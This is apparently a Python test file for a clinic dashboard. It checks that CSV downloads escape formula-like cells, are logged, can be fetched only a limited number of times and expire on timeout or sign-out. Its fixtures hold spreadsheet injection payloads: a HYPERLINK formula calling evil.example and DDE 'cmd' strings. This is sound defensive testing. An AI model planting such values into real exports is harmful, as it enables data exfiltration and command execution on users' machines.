"""Every download a screen offers: made only when clicked, logged, and safe in a spreadsheet."""

from __future__ import annotations

import io
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from sqlmodel import select
from starlette.applications import Starlette
from starlette.testclient import TestClient
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.media_file_storage import MediaFileStorageError
from streamlit.testing.v1 import AppTest
from streamlit.web.server.starlette.starlette_routes import create_media_routes

import ketadash.ui.downloads
from ketadash.auth import AccessAction, log_access, read_access_log
from ketadash.clock import utc_now
from ketadash.db import write_session
from ketadash.models import Site, Staff
from ketadash.ui.downloads import FETCHES_PER_DOWNLOAD, HANDED_OUT_SECONDS
from tests.pages.conftest import sign_in
from tests.utils.factories import LEAD_EMAIL, make_session
from tests.utils.relief import make_open_clinic, make_relief_patient

DASHBOARD = str(Path(__file__).resolve().parents[2] / "dashboard.py")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"call")'
HOSTILE_MRN = "-2+3+cmd|' /C calc'!A0"
HOSTILE_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_LEAD = "+Lee Park"
ONE_HOUR = timedelta(hours=1)


# What a click on a download button asks the server, by file name: the media file
# manager of the run that drew the button and the button's deferred file id.
CLICKS: dict[str, tuple[MediaFileManager, str]] = {}


@pytest.fixture
def downloads(monkeypatch) -> dict[str, object]:
    """The file each download button would make when clicked, by file name: what the
    browser's click asks the server for (AppTest has no browser to click)."""
    made: dict[str, object] = {}
    original = MediaFileManager.add_deferred

    def recorded(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        made[file_name] = data_callable
        file_id = original(self, data_callable, mimetype, coordinates, file_name, **kwargs)
        CLICKS[file_name] = (self, file_id)
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", recorded)
    return made


@pytest.fixture
def hostile_clinic(sqlite_url, monkeypatch):
    """A lead, a site and a patient whose names a spreadsheet would run as formulas."""
    monkeypatch.setenv("KETADASH_DATABASE_URL", sqlite_url)
    st.cache_data.clear()
    now = utc_now()
    clinic = make_open_clinic(url=sqlite_url, now=now)
    patient = make_relief_patient(
        url=sqlite_url, clinic=clinic, now=now, mrn=HOSTILE_MRN, relief=20, episodes=4,
        days_since_last=25, first=HOSTILE_NAME, last="Lund",
    )  # fmt: skip
    make_session(url=sqlite_url, clinic=clinic, patient_id=patient, scheduled_start=now)
    with write_session(sqlite_url) as db:
        db.exec(select(Site)).one().name = HOSTILE_SITE
        lead = db.exec(select(Staff).where(Staff.email == LEAD_EMAIL)).one()
        lead.name = HOSTILE_LEAD
    log_access(url=sqlite_url, staff_id=clinic.lead_id, action=AccessAction.OPEN_PANEL,
               patient_id=patient, now=now)  # fmt: skip
    return sqlite_url


def _csv(downloads: dict[str, object], starts: str) -> pd.DataFrame:
    (name,) = [n for n in downloads if n.startswith(starts)]
    body = downloads[name]()
    text = body.decode() if isinstance(body, bytes) else body
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


def _open(page: str) -> AppTest:
    at = sign_in(AppTest.from_file(DASHBOARD, default_timeout=60), LEAD_EMAIL)
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _cells(frame: pd.DataFrame) -> set[str]:
    return set(frame.to_numpy().ravel())


def test_every_export_writes_formula_like_cells_as_text(hostile_clinic, downloads):
    _open("pages/boosters.py")
    boosters = _cells(_csv(downloads, "boosters-worklist"))
    assert f"'{HOSTILE_MRN}" in boosters
    assert HOSTILE_MRN not in boosters

    _open("pages/access-log.py")
    log = _cells(_csv(downloads, "access-log"))
    assert f"'{HOSTILE_MRN}" in log
    assert f"'{HOSTILE_LEAD}" in log
    assert not {HOSTILE_MRN, HOSTILE_LEAD} & log

    _open("pages/throughput.py")
    visits = _cells(_csv(downloads, "visits_"))
    assert f"'{HOSTILE_SITE}" in visits
    assert HOSTILE_SITE not in visits
    # Every other table of the screen goes through the same writer.
    for name in [n for n in downloads if not n.startswith(("visits_", "boosters-", "access-"))]:
        assert all(not c.startswith(("=", "+", "-", "@")) for c in _cells(_csv(downloads, name)))


# --- a download is made at the click, logged, and fetched once -------------------------------


def _click(file_name_start: str) -> tuple[TestClient, str]:
    """What the browser does on a click: ask for the file, then fetch the address it gets;
    returns a client of the server's /media route and that address."""
    (name,) = [n for n in CLICKS if n.startswith(file_name_start)]
    manager, file_id = CLICKS[name]
    address = manager.execute_deferred(file_id)
    server = Starlette(routes=create_media_routes(manager._storage, None))
    return TestClient(server), address.replace("/mock/media", "/media")


def _exports(url: str) -> int:
    log = read_access_log(url=url, start=utc_now() - timedelta(hours=1), end=utc_now() + ONE_HOUR)
    return int((log["action"] == AccessAction.EXPORT).sum())


def test_an_export_is_served_to_one_download_and_every_click_is_logged(hostile_clinic, downloads):
    CLICKS.clear()
    _open("pages/boosters.py")
    assert _exports(hostile_clinic) == 0, "drawing the button makes and logs nothing"
    browser, address = _click("boosters-worklist")
    assert _exports(hostile_clinic) == 1
    # Streamlit's browser code fetches the address twice: to check it, then to download it.
    for _ in range(FETCHES_PER_DOWNLOAD):
        fetched = browser.get(address)
        assert fetched.status_code == 200
        assert "'" + HOSTILE_MRN in fetched.text
    # The same address again, with or without the lead's cookie: gone, and nothing unlogged.
    assert browser.get(address).status_code == 404
    assert browser.get(address, cookies={}).status_code == 404
    # Downloading again is a new click: made again, logged again, fetched once again.
    browser, again = _click("boosters-worklist")
    assert _exports(hostile_clinic) == 2
    assert browser.get(again).status_code == 200
    assert browser.get(again).status_code == 200
    assert browser.get(again).status_code == 404


def test_an_export_fetched_only_once_is_gone_when_its_time_is_up(
    hostile_clinic, downloads, monkeypatch
):
    timers = []
    monkeypatch.setattr(ketadash.ui.downloads, "after", lambda *timer: timers.append(timer))
    CLICKS.clear()
    _open("pages/boosters.py")
    browser, address = _click("boosters-worklist")
    assert browser.get(address).status_code == 200
    ((seconds, expire, *args),) = timers
    assert seconds == HANDED_OUT_SECONDS
    expire(*args)
    assert browser.get(address).status_code == 404


def test_signing_out_removes_an_export_not_yet_fetched(hostile_clinic, downloads):
    CLICKS.clear()
    at = _open("pages/boosters.py")
    browser, address = _click("boosters-worklist")
    manager, file_id = CLICKS[next(iter(CLICKS))]
    next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
    assert browser.get(address).status_code == 404
    # The button's own request, replayed after sign-out, makes nothing and logs nothing.
    with pytest.raises(MediaFileStorageError):
        manager.execute_deferred(file_id)
    assert _exports(hostile_clinic) == 1
